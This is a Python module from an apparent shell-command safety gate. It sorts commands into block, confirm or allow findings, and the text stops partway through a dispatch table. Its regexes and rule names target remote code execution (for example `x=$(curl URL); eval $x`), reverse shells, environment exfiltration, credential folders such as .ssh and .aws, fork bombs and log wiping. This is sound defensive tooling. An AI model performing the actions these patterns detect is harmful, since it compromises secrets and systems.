"""Rules: shell commands (and commands typed into a terminal).

The heavy lifting is shared: gate/shell.py parses and unwraps the command once (`command_facts`), then
`findings(analysis, compiled)` runs every detector below once and files each finding under the rule
it belongs to. Each rule only picks its own findings, so a rule is still a pure predicate with an id.

BLOCK is for the catastrophic and the clearly malicious; CONFIRM for risky but legitimate work; plain
pipes, chains and redirects are not a finding on their own (they only stop policy allow rules, see
gate/allow.py). Choices worth knowing:
- `rm -rf` of a regenerable directory (`[shell] regenerable_dirs`: node_modules, dist, build, ...) in
  the working directory is allowed; any other recursive delete asks; a plain `rm file` asks too, as a
  `file_delete` action does (`[shell] confirm_file_deletes`), except under /tmp and for one throwaway
  file in the working directory named as one (reproduce_bug.py, scratch.js, x.orig, x.pyc).
- Installing a named package (`pip install requests`) asks: it puts new code on the machine. Installing
  a project's declared dependencies (`npm ci`, `pip install -r requirements.txt`) does not.
- Wiping system logs is blocked (anti-forensics), and so is switching a defence off: the firewall,
  SELinux/AppArmor, auditing, security services, kernel protections, system recovery. Clearing one's own
  shell history asks (defense-evasion): it is also something people do for privacy.
- Judging by effect (gate/rules/shell_effects.py, table in resources/programs.toml): a program the table
  does not describe, or a code-running flag of one it does, asks (`[shell] unknown_programs`); attacks on
  deskgate itself, a whole home sent off the machine, SUID shells, password-hash reads, sysrq and
  persistence that runs a network shell block.
- A finding inside `ssh host ...` keeps its decision: destroying a remote root is as catastrophic.

Where things are (add a program or a flag in the one place it belongs):
- resources/programs.toml: what programs do (effects, code-running flags, catalogue functions, dry runs);
- gate/rules/shell_vocab.py: the words the checks share (deleters, readers, package verbs, ...);
- the checks, by effect, which `Detector` inherits: shell_destructive (deletes, overwrites, disks,
  databases), shell_credentials (secret reads), shell_privilege (permissions, accounts, containers),
  shell_persistence (services, schedules, power, processes), shell_evasion (defences, network config,
  history and logs, LOLBins), shell_dataout (network tools, downloads), shell_codeload (code run unseen),
  shell_programs (package managers, deploys, cloud CLIs, git);
- across programs: shell_stores (statements in any program's argument, personal columns selected out, images
  copied out of a private registry, tokens picked out of logs; its facts under `# ---- data-store and registry
  facts ----` of programs.toml), shell_effects (by table effect), shell_platforms (system state, platform tools),
  shell_catalogue (catalogue functions), shell_env (the environment), shell_windows (Windows commands by
  the company they keep: Startup folder, hidden encoded PowerShell, accounts, staged payloads, uploads);
- rooms of one effect each: shell_relays (relay clients, DNS and ICMP channels, post-exploitation listeners, also
  as an interpreter's script), shell_notices (notifications and message boxes that phish), shell_agents
  (security agents' files, packages and install records removed), shell_agent_config (a coding agent's settings
  and MCP servers changed from the shell), shell_harvest (secrets harvested across a machine, a phishing kit
  operated), shell_personal (photo, message and contact
  libraries exported, then sent away in the same line).
- reading a cmd.exe or PowerShell line: gate/winshell.py, with its data in resources/winshell.toml.
"""

from __future__ import annotations

import fnmatch
import functools
import re
from collections.abc import Callable, Iterator
from typing import TYPE_CHECKING

from gate.catalogue import COPY
from gate.effects import VM_SHELL_LABELS, WRITE_FLAG_PROGRAMS
from gate.model import Risk, Span
from gate.packages import official_install_script
from gate.paths import supervisor_dirs
from gate.patterns import Patterns
from gate.policy import FilesPolicy, ShellPolicy
from gate.prefix import LiteralSets
from gate.rules import (
    code_capture,
    shell_adminverbs,
    shell_agent_config,
    shell_agents,
    shell_catalogue,
    shell_context,
    shell_control_plane,
    shell_datastores,
    shell_delivery,
    shell_desktop_admin,
    shell_effects,
    shell_env,
    shell_harvest,
    shell_installs,
    shell_notices,
    shell_outverbs,
    shell_personal,
    shell_ransom,
    shell_reading,
    shell_relays,
    shell_routine_admin,
    shell_sabotage,
    shell_sources,
    shell_staging,
    shell_stores,
    shell_verbs,
    shell_windows,
)
from gate.rules.base import Context, Rule
from gate.rules.shell_codeload import CodeLoadingChecks
from gate.rules.shell_credentials import CredentialChecks
from gate.rules.shell_dataout import (
    CLIPBOARD_CUES,
    MAIL_SENDERS,
    PS_WEB_SENDERS,
    DataOutChecks,
    clipboard_harvest,
    environment_to_shared,
)
from gate.rules.shell_destructive import DestructiveChecks
from gate.rules.shell_evasion import EvasionChecks
from gate.rules.shell_persistence import PersistenceChecks
from gate.rules.shell_platforms import WEB_SCANNERS, scans_own_machine
from gate.rules.shell_privilege import PrivilegeChecks, root_looks, share_config
from gate.rules.shell_programs import ProgramChecks
from gate.rules.shell_startup import tool_hook
from gate.rules.shell_vocab import (
    _DB_CLIENTS,
    _DELETERS,
    _DISK_TOOLS,
    _DRY_RUN_DROPS,
    _GLOB_CHARS,
    _INFRA_DESTROY,
    _KILLERS,
    _LOLBINS,
    _NET_TOOLS,
    _PKG_INSTALL,
    _PKG_REMOVE,
    _POWER,
    _PUBLISH,
    _SECRET_READERS,
    _SETS_VARIABLES,
    _WHOLE,
    _WRITING_ARCHIVERS_AND_DOWNLOADERS,
    SHELL_TYPES,
    Verdict,
    _any,
    _changes_nothing,
    _no_match,
    _prints_usage,
    _seg_glob,
    _where,
)

if TYPE_CHECKING:
    from gate.compiled import CompiledPolicy
from gate.shell import (
    _WRAPPERS,
    DOWNLOADERS,
    HOME,
    INTERPRETERS,
    NET_SENDERS,
    SHELLS,
    WSL_ROOT,
    Command,
    Finding,
    ShellAnalysis,
    command_facts,
    display_path,
    resolve_path,
    shell_facts,
)

__all__ = ["RULES", "findings", "shell_findings"]

# the vocabulary is in gate/rules/shell_vocab.py; the checks, by effect, in the modules Detector inherits


_RX_PROTECTED_TARGET = re.compile(r"^([a-zA-Z]:|%\w+%|\$env:)", re.I)  # C:\, %USERPROFILE%, $env:SystemRoot


# programs that only sort, cut or count the text they are given and print it (awk without a command or pipe)
_TEXT_FILTERS = frozenset({"grep", "egrep", "fgrep", "rg", "head", "tail", "sort", "uniq", "wc", "cut", "column",
                           "tr", "jq", "awk", "gawk", "mawk"})
_AWK_RUNS = re.compile(r"system|getline|\|")


def _feeds_another(cmd: Command, cmds: tuple[Command, ...] | list[Command]) -> bool:
    """Another command of the line reads `cmd`'s output (`sudo cat x | sh`), other than a text filter that
    only prints it (`sudo dscl . -list /Users | awk '$2 > 500'`, `| grep x`), with nothing of its own redirected
    and its own output read by nothing else but such a filter."""
    if len(cmds) < 2:
        return False
    i = next(k for k, c in enumerate(cmds) if c is cmd)
    return any(i in c.upstream and not (
        c.name in _TEXT_FILTERS and not c.redirects and not c.privileged
        and not (c.name.endswith("awk") and any(_AWK_RUNS.search(w) for w in c.argv[1:]))
        and not _feeds_another(c, cmds))
        for c in cmds if c is not cmd)


_STAGING_NAMES = shell_staging.NAMES
# PowerShell commands that take the paths piped to them as their own (`Get-ChildItem … | Remove-Item`)
_PIPE_BOUND = frozenset({"remove-item", "ri", "del", "erase", "rd", "clear-content", "set-content", "move-item",
                         "rename-item", "mi", "get-content", "gc", "copy-item", "cpi"})
_WINDOWS_NAMES = shell_windows.NAMES
_RELAY_NAMES = shell_relays.NAMES
# what a scan of this machine alone is not: an attack on someone's site, traffic to the network
_OWN_MACHINE_DROPS = frozenset({"confirm.shell.attack-probe", "confirm.shell.network"})
_NOTICE_NAMES = shell_notices.NAMES
_AGENT_NAMES = shell_agents.NAMES
# its listed names as a plain set: `in` without the Python-level test of a cloud module's cmdlet (whose names all
# hold a `-`), which `_WINDOWS_NAMES` runs for every name it does not list
_WINDOWS_LISTED = frozenset(_WINDOWS_NAMES)
_SYSTEM_PACKAGERS = frozenset({"apt", "apt-get", "aptitude", "dpkg", "rpm", "yum", "dnf", "zypper", "pacman", "apk"})
_BUILD_CONFIG_OUTPUT = re.compile(r"(?:^|/)bin/(?:debug|release|x64|x86|arm64)(?:/[\w.-]+)?$")


# a PowerShell variable named with its scope or drive (`$env:PATH`, `${env:TEMP}`, `$global:x`, `$using:y`)
# a URL in interpreter code, and a decoding step beside it (what is decoded is not the script the URL serves)
_URL_WORD = re.compile(r"https?://[^\s'\"|;)]+", re.IGNORECASE)

# a variable set to what a download printed (`x=$(curl -fsSL URL)`, backticks, wget -O-, PowerShell's iwr)
_FETCH_VALUE = re.compile(r"^[\s\"']*(\$\(|`)\s*(curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|fetch|http|"
                          r"aria2c|lwp-request|GET)\b[^)`]*\b(https?|ftp)://", re.IGNORECASE)


def _fetched_vars(analysis: ShellAnalysis) -> tuple[str, ...]:
    return tuple(name for name, value in analysis.assignments if name and _FETCH_VALUE.search(value))


def _uses_var(span: str, name: str) -> bool:
    low = span.lower()
    return f"${name}" in low or f"${{{name}}}" in low
_DECODED = re.compile(r"frombase64|base64|-enc|decode|gzip|deflate|\bxor\b|\[char\]|-join", re.IGNORECASE)
_SCOPED_VARIABLE = re.compile(r"\$\{?(?:env|global|script|local|private|using|variable|function|alias):[\w.\-]+\}?",
                              re.IGNORECASE)
# what is left that still reads as `file:stream` (the catalogue's own test, roughly)
_STREAM_WORD = re.compile(r"[\w)\\.\-]:(?![\\/])[a-z_][\w.\-]*", re.IGNORECASE)
_STREAM_PARAMETER = re.compile(r"\s-str(e|ea|eam)?(\s|:|$)", re.IGNORECASE)  # PowerShell's own: `-Stream s`


# the cues of every line family, looked for in one pass over the lowered line (the same test as
# `any(c in low for c in CUES)` family by family: some two hundred cues, on every line, which most lines hold none of)
_LINE_CUES = LiteralSets({
    "clipboard": CLIPBOARD_CUES, "personal": shell_personal.CUES, "notices": shell_notices.WHOLE_CUES,
    "ransom": shell_ransom.LINE_CUES, "delivery": shell_delivery.LINE_CUES, **shell_harvest.LINE_CUES})


class Detector(
    DestructiveChecks, CredentialChecks, PrivilegeChecks, PersistenceChecks, EvasionChecks, DataOutChecks,
    CodeLoadingChecks, ProgramChecks,
):
    """The shell detectors, compiled for one ShellPolicy."""

    def __init__(self, policy: ShellPolicy, files: FilesPolicy | None = None) -> None:
        self.policy = policy
        self.ask_unknown = policy.unknown_programs == "confirm"
        self.credential_files = Patterns(files.credentials if files else ())
        self.supervisor = _any([*(files.supervisor_paths if files else ()), *supervisor_dirs()])
        self.dumps = _any(files.credential_dumps if files else _DEFAULT_DUMPS)
        self.key_dirs = re.compile(r"(^|/)\.(ssh|gnupg|aws|password-store|kube|docker)/?$|"
                                   r"(^|/)\.mozilla/firefox/?$|(^|/)\.config/(google-chrome|chromium)/?$|"
                                   # a server's TLS private keys: certbot's live and archive folders, the
                                   # distributions' private-key folders
                                   r"^/etc/letsencrypt(/(live|archive))?/?$|^/etc/(ssl|pki/tls)/private/?$")
        prot = [_seg_glob(resolve_path(p) or p) for p in policy.protected_paths]
        self.protected = re.compile(rf"^(?:{'|'.join(prot)})/?$") if prot else None
        trees = [re.escape(resolve_path(p) or p) for p in policy.system_trees]
        self.trees = re.compile(rf"^(?:{'|'.join(trees)})(?:/|$)") if trees else None
        # one path vocabulary with file actions: what file_read asks for, `cat` asks for too
        self.secret = _any([*policy.secret_paths, *(files.credentials if files else ())])
        self.credential = _any(policy.credential_files)
        self.persistence = _any(policy.persistence_paths)
        # what runs later without anyone typing it besides the start-up places (CI pipelines, hook managers,
        # direnv): a redirect there asks as a `file_write` does
        self.runs_later = _any(files.runs_later) if files else None
        self.logs = _any(policy.log_paths)
        self.block_patterns = _any(policy.block_patterns)
        self.confirm_patterns = _any(policy.confirm_patterns)
        self.critical = frozenset(s.lower() for s in policy.critical_services)
        self.security = frozenset(s.lower() for s in policy.security_services)
        self.regenerable = tuple(policy.regenerable_dirs)
        # the regenerable globs as one regex: what `fnmatchcase` would try glob by glob, in one match
        self.regenerable_name = re.compile("|".join(fnmatch.translate(g) for g in self.regenerable)).match \
            if self.regenerable else _no_match
        self.confirm_file_deletes = policy.confirm_file_deletes
        self.depth = 0  # how deep a variable's value is being judged as a command (bounded)
        self.run = functools.lru_cache(maxsize=4096)(self._run)
        # what command i of an analysis reads that is secret: asked by every command downstream of it in a
        # pipeline (up to UPSTREAM_WINDOW of them), computed once (analyses hash by identity)
        self.secret_read_at = functools.lru_cache(maxsize=8192)(
            lambda analysis, i: self.reads_secret(analysis.commands[i]))
        self.grouped = functools.lru_cache(maxsize=4096)(
            lambda analysis, field: _grouped(self.run(analysis), analysis.source, field))

    # -- path predicates ------------------------------------------------------------------------

    def supervisor_path(self, path: str) -> bool:
        return bool(self.supervisor and self.supervisor.search(path))

    def credential_dump(self, path: str) -> bool:
        return bool(self.dumps and self.dumps.search(path))

    def secret_dir(self, path: str) -> bool:
        return bool(self.key_dirs.search(path.rstrip("/")))

    def persistence_path(self, path: str) -> bool:
        return bool(self.persistence and self.persistence.search(path))

    @staticmethod
    def judged(name: str) -> bool:
        """Programs a detector here judges by name: they are described, whatever the table says."""
        return name in _JUDGED

    def resolve(self, cmd: Command, word: str) -> str | None:
        return resolve_path(word, cmd.cwd or None)

    def is_protected(self, path: str) -> bool:
        return bool(self.protected and self.protected.match(path)) or self.in_tree(path)

    def in_tree(self, path: str) -> bool:
        return bool(self.trees and self.trees.match(path))

    def protected_target(self, cmd: Command, word: str) -> str | None:
        """The protected path a delete/chmod target hits (display form), or None."""
        if cmd.cwd is None and not word.startswith(("/", "~")) and not _RX_PROTECTED_TARGET.match(word):
            return None
        path = self.resolve(cmd, word)
        if path is None:
            return None
        if _GLOB_CHARS.search(path):
            head, _, last = path.rpartition("/")
            head = head or "/"
            if _WHOLE.match(last) and not _GLOB_CHARS.search(head) and self.is_protected(head):
                return display_path(path)
            prefix = _GLOB_CHARS.split(path, 1)[0].rsplit("/", 1)[0] or "/"
            return display_path(path) if self.in_tree(prefix + "/") and prefix not in ("/",) else None
        return display_path(path) if self.is_protected(path.rstrip("/") or "/") else None

    def secret_path(self, cmd: Command, word: str) -> str | None:
        if self.secret is None or not word or (word.startswith("-") and "=" not in word):
            return None
        if word.startswith("-"):
            word = word.split("=", 1)[1]
        path = self.resolve(cmd, word) or word.lower()
        return display_path(path) if self.secret.search(path) else None

    def inside_regenerable(self, word: str) -> bool:
        """A relative path with a regenerable directory on the way (`build/output.o`): a build output."""
        parts = word.split("/")
        if word.startswith(("/", "~", "-")) or ".." in parts:
            return False
        return any(self.regenerable_name(p.lower()) for p in parts[:-1])

    def regenerable_target(self, cmd: Command, word: str) -> bool:
        if "\\" in word and not word.startswith("\\\\"):
            word = word.replace("\\", "/")  # .\node_modules: a Windows relative path
        w = word.rstrip("/")
        if not w or w.startswith(("/", "~", "-")) or ".." in w.split("/") or cmd.cwd == "":
            path = self.resolve(cmd, word)
            if not ((path and path.count("/") >= 3 and not self.is_protected(path.rstrip("/")) and
                    ".." not in word.split("/") and not path.startswith(HOME + "/")) or (path and
                    path.startswith(HOME + "/") and path.count("/") >= 4)):
                return False
        base = w.rsplit("/", 1)[-1]
        if _BUILD_CONFIG_OUTPUT.search(w.lower()):
            return True  # bin/Debug, bin/Release: what a .NET or C++ build writes for one configuration
        return self.regenerable_name(base.lower()) is not None

    # -- the run --------------------------------------------------------------------------------

    def _run(self, analysis: ShellAnalysis) -> tuple[Finding, ...]:
        out: list[Finding] = []
        add = out.append
        cmds = analysis.commands
        for span in analysis.fork_bombs:
            add(Finding("block.shell.fork-bomb", Risk.CRITICAL, f"fork bomb: {span[:60]}", span))
        fetched = _fetched_vars(analysis) if analysis.assignments else ()
        for kind, span in analysis.notes:
            if fetched and kind in ("dynamic-command", "indirect") and \
                    (var := next((v for v in fetched if _uses_var(span, v)), None)):
                # `x=$(curl URL); eval $x`: the download is run, one statement later
                add(Finding("block.shell.remote-code-exec", Risk.CRITICAL,
                            f"runs what a download put in ${var}: code from the network, run unseen ({span[:60]})",
                            span))
                fetched = ()
                continue
            if kind == "obfuscated":
                add(Finding("confirm.shell.obfuscated", Risk.HIGH,
                            f"the command is spelled to hide what it runs: {span[:80]}", span))
            elif kind == "dynamic-command":
                add(Finding("confirm.shell.obfuscated", Risk.HIGH,
                            f"the command to run comes from {span[:60]}: the gate cannot tell what runs", span))
            elif kind == "indirect" and not tool_hook(span):
                # (a known tool manager's shell set-up printed and run in this shell is not code unseen)
                add(Finding("confirm.shell.indirect-exec", Risk.HIGH,
                            f"runs code produced at run time: {span[:80]}", span))
            elif kind == "code-fetch-exec":
                urls = _URL_WORD.findall(span)
                if len(urls) == 1 and official_install_script(urls[0]) and not _DECODED.search(span):
                    add(Finding("confirm.shell.install-script", Risk.HIGH,
                                f"runs the install script {urls[0][:70]} publishes: it installs software the "
                                f"person chose or not", span))
                else:
                    add(Finding("block.shell.remote-code-exec", Risk.CRITICAL,
                                "interpreter code downloads code and runs it", span))
            elif kind == "code-env-exfil":
                add(Finding("block.shell.credential-exfiltration", Risk.CRITICAL,
                            "interpreter code sends the whole environment (tokens and keys) over the network", span))
            elif kind == "code-reverse-shell":
                add(Finding("block.shell.reverse-shell", Risk.CRITICAL,
                            "interpreter code connects a shell to a network socket", span))
            elif kind == "code-exhaust":
                add(Finding("confirm.shell.system-disruption", Risk.HIGH,
                            "interpreter code grows memory or makes files in a loop with no end: it exhausts the "
                            "machine", span))
            elif kind == "scheduled":
                add(Finding("confirm.shell.persistence", Risk.HIGH,
                            f"schedules a command to run again and again on its own (a recurring transient timer): "
                            f"{span[:80]}", span))
            elif kind == "too-deep":
                add(Finding("confirm.shell.complex", Risk.HIGH,
                            "commands nested too deep to analyse (wrapper inside wrapper ...)", span))
        unparsable = "unparsable" in analysis.features  # (the property, read once for every command below)
        if unparsable:
            add(Finding("confirm.shell.unparsable", Risk.HIGH,
                        "the command does not parse as shell: cannot tell what it runs", analysis.source[:200]))
        if len(cmds) > self.policy.max_commands:
            add(Finding("confirm.shell.complex", Risk.MEDIUM,
                        f"{len(cmds)} commands in one string: too many to review at a glance", ""))
        for name, value in analysis.assignments:
            self.assignment(name, value, add)
        shell_catalogue.whole(analysis, add)
        shell_sources.judge(analysis, add)
        shell_agent_config.line(analysis, add)
        low = analysis.source.lower()
        cued = _LINE_CUES.present(low)  # the line families whose cues the line holds
        shell_harvest.line(analysis, add, cued)
        if "do" in analysis.source and "for" in analysis.source:
            self.loop_rewrite(analysis, add)
        downloaded: dict[str, str] = {}
        written: dict[str, str] = {}
        for cmd in cmds:
            where = _where(cmd) if cmd.via else ""  # (_where's own first test, without the call)
            mark = len(out)
            if cmd.name in _SETS_VARIABLES or cmd.argv[0][:1] == "$":
                for name, value in shell_env.command_assignments(cmd.argv, cmd.name):
                    shell_env.judge(self, name, value, add)
            self.command(cmd, analysis, add, downloaded, where)
            shell_effects.judge(self, cmd, analysis, where, add, written, unparsable)
            if shell_installs.wanted(cmd):
                shell_installs.judge(self, cmd, analysis, where, add)
            # (the staging and Windows families look at a few program names only, and otherwise at a redirect, a
            # path as the program word, a `.\program`: their own first tests, without the calls)
            if cmd.redirects or cmd.name in _STAGING_NAMES or "/" in cmd.argv[0] or "\\" in cmd.argv[0]:
                shell_staging.judge(self, cmd, analysis, where, add)
            catalogued = len(out)
            shell_catalogue.judge(cmd, where, add, analysis)
            if len(out) > catalogued and ":" in cmd.span and _SCOPED_VARIABLE.search(cmd.span):
                # `$env:USERNAME`, `${env:TEMP}`, `$script:count`: a PowerShell variable of a scope or drive, not
                # a file's alternate data stream (a real stream word beside it is still read as one)
                rest = " ".join([_SCOPED_VARIABLE.sub(" ", cmd.span), *(t for _, t in cmd.redirects)])
                if not _STREAM_WORD.search(rest) and not _STREAM_PARAMETER.search(cmd.span):
                    out[catalogued:] = [f for f in out[catalogued:] if "[lolbas:ads]" not in f.reason]
            if cmd.name in _WINDOWS_LISTED or ("-" in cmd.name and cmd.name in _WINDOWS_NAMES) or \
                    cmd.argv[0].startswith(".\\") or "-accepteula" in cmd.words:
                shell_windows.judge(self, cmd, analysis, where, add)
            shell_context.escalate(self, cmd, analysis, out[mark:], out[:mark], where, add)
            if cmd.found or (cmd.upstream and cmd.name in _PIPE_BOUND) or cmd.name in ("fd", "fdfind"):
                shell_context.fed_own_files(self, cmd, analysis, where, add)
                if cmd.name in ("fd", "fdfind"):
                    shell_context.fd_exec(self, cmd, where, add)
            if cmd.name in shell_context.TUNNEL_NAMES or cmd.name.startswith(shell_context.TUNNEL_PREFIXES):
                shell_context.tunnel(cmd, where, add)
            if cmd.name in _RELAY_NAMES or cmd.name in INTERPRETERS or ("/" in cmd.argv[0] and
                                                                        not cmd.name.isalpha()):
                # (a release build run by its path carries its version and platform: merlinServer-Linux-x64)
                shell_relays.judge(cmd, analysis, where, add)
            if cmd.name in _NOTICE_NAMES:
                shell_notices.judge(cmd, where, add)
            if shell_adminverbs.wanted(cmd):
                shell_adminverbs.judge(self, cmd, analysis, where, add)
            if cmd.name in shell_control_plane.NAMES:
                shell_control_plane.judge(cmd, analysis, where, add)
            if shell_datastores.wanted(cmd):
                shell_datastores.judge(self, cmd, analysis, where, add)
            if cmd.name in _AGENT_NAMES or "uninstall" in cmd.name or "remove" in cmd.name:
                shell_agents.judge(cmd, where, add)
            if cmd.name in shell_agent_config.NAMES:
                shell_agent_config.judge(self, cmd, analysis, where, add)
            if cmd.name in shell_ransom.NAMES:
                shell_ransom.judge(self, cmd, analysis, where, add)
            if cmd.name in code_capture.SCREEN_NAMES:
                code_capture.judge_screen(cmd, analysis.commands, where, add)
            if cmd.redirects:
                shell_ransom.overwrites(self, cmd, where, add)
            if cmd.name in shell_delivery.EDITORS:  # (extensions from a file or under an impostor's id)
                shell_delivery.judge(cmd, where, add)
            if len(out) == mark:  # (nothing found yet: a known program's own delete verb or open address, the
                # table silent on it)
                shell_verbs.judge(cmd, where, add, cmd.name in _BY_NAME)
                if len(out) == mark:
                    shell_outverbs.judge(cmd, where, add, cmd.name in _COMMAND_STEPS)
                if len(out) == mark and ("0" in cmd.span or "::" in cmd.span or "*" in cmd.span or "$" in cmd.span):
                    shell_verbs.exposes(cmd, analysis, where, add)
            if cmd.name in shell_desktop_admin.NAMES:
                shell_desktop_admin.judge(cmd, analysis, where, add)
            if cmd.name in shell_sabotage.NAMES:
                shell_sabotage.judge(cmd, where, add, analysis)
            if len(out) > mark and _changes_nothing(cmd):
                out[mark:] = [f for f in out[mark:] if f.rule not in _DRY_RUN_DROPS]
            elif len(out) > mark and (_prints_usage(cmd) or shell_reading.prints_usage(cmd)):
                # (what its verbs do is not done: it prints its usage and exits; a block about the program stays)
                out[mark:] = shell_reading.after_usage(cmd, out[mark:])
            elif len(out) > mark and cmd.name in WEB_SCANNERS and scans_own_machine(cmd):
                # (a scanner pointed at this machine only tests the person's own application)
                out[mark:] = [f for f in out[mark:] if f.rule not in _OWN_MACHINE_DROPS]
            elif len(out) > mark and cmd.privileged and root_looks(self, cmd) and \
                    not _feeds_another(cmd, cmds):
                # (root only to read, and what it reads is shown, not handed to another program)
                out[mark:] = [f for f in out[mark:] if f.rule != "confirm.shell.privilege-escalation"]
            if len(out) > mark and cmd.name in shell_routine_admin.NAMES:  # (a protection on, a routine chore)
                out[mark:] = shell_routine_admin.after(cmd, analysis, out[mark:])
            if len(out) > mark and shell_reading.reads_only(cmd, analysis):
                # (a reading sub-command: what the program's other verbs do is not done)
                out[mark:] = shell_reading.after_reading(cmd, out[mark:])
        shell_context.history_wipe(analysis, add)
        shell_context.discovery_burst(analysis, add)
        shell_context.mass_permissions(analysis, add)
        if "clipboard" in cued:
            clipboard_harvest(analysis, add)
        if len(cmds) > 1 and "personal" in cued:
            shell_personal.judge(analysis, add)
        if "notices" in cued:
            shell_notices.whole(analysis, add)
        if "ransom" in cued:
            shell_ransom.line(self, analysis, add)
        if "delivery" in cued:  # (a registry emptied, every process's environment)
            shell_delivery.line(analysis, add)
        if len(out) < 2:
            return tuple(out)  # nothing to repeat
        seen: set[tuple[str, str]] = set()
        unique = []
        for f in out:
            if (f.rule, f.reason) not in seen:
                seen.add((f.rule, f.reason))
                unique.append(f)
        return tuple(unique)

    def assignment(self, name: str, value: str, add: Callable[[Finding], None]) -> None:
        v = value.strip().lower()
        if (name == "histfile" and v in ("/dev/null", "")) or \
                (name in ("histsize", "histfilesize", "savehist") and v == "0"):
            add(Finding("confirm.shell.defense-evasion", Risk.HIGH,
                        f"stops shell history from being kept ({name.upper()}={value})", f"{name}={value}"))
        shell_env.judge(self, name, value, add)

    def command(self, cmd: Command, analysis: ShellAnalysis, add: Callable[[Finding], None],
                downloaded: dict[str, str], where: str) -> None:
        name = cmd.name
        span = cmd.span
        if cmd.privileged and not any(v in VM_SHELL_LABELS for v in cmd.via):
            # (root inside a local VM or system container is that machine's root, not this one's)
            hop = next((v for v in cmd.via if v.split()[0] in ("sudo", "doas", "pkexec", "su", "gsudo", "runas",
                                                                 "runuser") or v == WSL_ROOT), "sudo")
            add(Finding("confirm.shell.privilege-escalation", Risk.HIGH,
                        f"runs {name} with administrator rights ({hop.split()[0]})", span))
        if name in ("sudo", "doas", "pkexec", "su", "gsudo") and not cmd.privileged:
            add(Finding("confirm.shell.privilege-escalation", Risk.HIGH, f"opens an administrator shell ({name})",
                        span))
        if self.block_patterns is not None or self.confirm_patterns is not None:
            text = " ".join(cmd.words)  # (`cmd.text`, built once for both)
            if self.block_patterns is not None and self.block_patterns.search(text):
                add(Finding("block.shell.policy-pattern", Risk.CRITICAL, f"matches a blocked pattern: {text[:80]}",
                            span))
            if self.confirm_patterns is not None and self.confirm_patterns.search(text):
                add(Finding("confirm.shell.policy-pattern", Risk.MEDIUM, f"matches a pattern that asks: {text[:80]}",
                            span))
        if cmd.redirects or name in _WRITES_OR_READS:  # (the first test of both, without the calls)
            self.redirects(cmd, where, add)
            self.reads(cmd, analysis, where, add)
            environment_to_shared(cmd, analysis, where, add)
        elif name == "tee" and cmd.upstream:
            environment_to_shared(cmd, analysis, where, add)
        # the program families this name belongs to, looked up once (`_COMMAND_STEPS`), in this order: its own
        # check by name (`_BY_NAME`, called as it is), then the family steps
        entry = _COMMAND_STEPS.get(name)
        if entry is not None:
            check, steps = entry
            if check is not None:
                check(self, cmd, analysis, where, add)
        else:
            # (_is_mkfs, without the call)
            steps = _MKFS_STEPS if name.startswith(("mkfs", "mke2fs", "newfs")) or name == "mkswap" else ()
        for step in steps:
            step(self, cmd, analysis, where, add, downloaded)
        if shell_stores.may_carry(cmd):  # statements, image copies and log harvests, whatever the program
            shell_stores.judge(self, cmd, analysis, where, add, name in _DB_CLIENTS)
        if (cmd.found and (name in SHELLS or name in INTERPRETERS) and "find -exec" in cmd.via and
                not _inline_script(cmd)) or \
                (cmd.found and "xargs" in cmd.via and (name in SHELLS or name in INTERPRETERS) and \
                not any(a in ("-c", "-e") for a in cmd.argv[1:])):
            add(Finding("confirm.shell.indirect-exec", Risk.MEDIUM,
                        f"runs {name} on every item found{where}: the gate cannot see those files", span))


def _inline_script(cmd: Command) -> bool:
    """`find … -exec bash -c 'mv "$1" …' _ {} ;`: the script is on the line and its commands are judged as
    written; only a found file run as the script (`-exec bash {} ;`) is code the gate cannot see."""
    args = cmd.argv[1:]
    return any(a in ("-c", "-e") and k + 1 < len(args) and " " in args[k + 1].strip() for k, a in enumerate(args))


_BY_NAME: dict[str, Callable[[Detector, Command, ShellAnalysis, str, Callable[[Finding], None]], None]] = {}
for _n in _DELETERS:
    _BY_NAME[_n] = Detector.delete
_BY_NAME.update({
    "find": Detector.find, "mv": Detector.move, "cp": Detector.move, "install": Detector.move, "ln": Detector.move,
    "rsync": Detector.move,
    "tee": Detector.tee, "sponge": Detector.tee, "sed": Detector.sed, "gsed": Detector.sed, "perl": Detector.sed,
    "truncate": Detector.truncate, "dd": Detector.dd, "touch": Detector.touch, "alias": Detector.password_trap,
    "read": Detector.password_trap,
    "wipefs": Detector.wipefs, "blkdiscard": Detector.wipefs, "dc3dd": Detector.dd,
    "hdparm": Detector.disk_erase, "nvme": Detector.disk_erase, "cryptsetup": Detector.disk_erase,
    "zpool": Detector.disk_erase, "zfs": Detector.disk_erase, "badblocks": Detector.disk_erase,
    "format": Detector.disk_erase, "diskpart": Detector.disk_erase, "diskutil": Detector.disk_erase,
    "chmod": Detector.permissions, "chown": Detector.permissions, "chgrp": Detector.permissions,
    "git": Detector.git,
    "aws": Detector.cloud, "gcloud": Detector.cloud, "az": Detector.cloud,
    "docker": Detector.docker_run, "podman": Detector.docker_run, "docker-compose": Detector.docker_run,
    "dropdb": Detector.db_tools, "dropuser": Detector.db_tools, "mysqladmin": Detector.db_tools,
    "pg_restore": Detector.db_tools, "mongorestore": Detector.db_tools,
    "rails": Detector.frameworks, "rake": Detector.frameworks, "prisma": Detector.frameworks,
    "artisan": Detector.frameworks, "manage.py": Detector.frameworks, "django-admin": Detector.frameworks,
    "php": Detector.frameworks, "sequelize": Detector.frameworks, "sequelize-cli": Detector.frameworks,
    "dotnet": Detector.frameworks, "dotnet-ef": Detector.frameworks, "flask": Detector.frameworks,
    "typeorm": Detector.frameworks, "knex": Detector.frameworks, "drizzle-kit": Detector.frameworks,
    "lvremove": Detector.disk_erase, "vgremove": Detector.disk_erase, "pvremove": Detector.disk_erase,
    "mdadm": Detector.disk_erase,
    "init": Detector.init, "telinit": Detector.init,
    "systemctl": Detector.services, "service": Detector.services, "loginctl": Detector.services,
    "rc-service": Detector.services, "sv": Detector.services, "supervisorctl": Detector.services,
    "pm2": Detector.services, "forever": Detector.services,
    "launchctl": Detector.launchctl, "crontab": Detector.crontab,
    "schtasks": Detector.scheduled, "reg": Detector.scheduled, "at": Detector.scheduled, "batch": Detector.scheduled,
    "update-rc.d": Detector.scheduled, "chkconfig": Detector.scheduled, "set-itemproperty": Detector.scheduled,
    "new-itemproperty": Detector.scheduled, "sp": Detector.scheduled,
    "usermod": Detector.accounts, "useradd": Detector.accounts, "adduser": Detector.accounts,
    "gpasswd": Detector.accounts, "passwd": Detector.accounts, "chpasswd": Detector.accounts,
    "visudo": Detector.accounts, "addgroup": Detector.accounts, "net": Detector.accounts,
    "dseditgroup": Detector.accounts, "userdel": Detector.accounts, "deluser": Detector.accounts,
    "pw": Detector.accounts,
    "setcap": Detector.setcap,
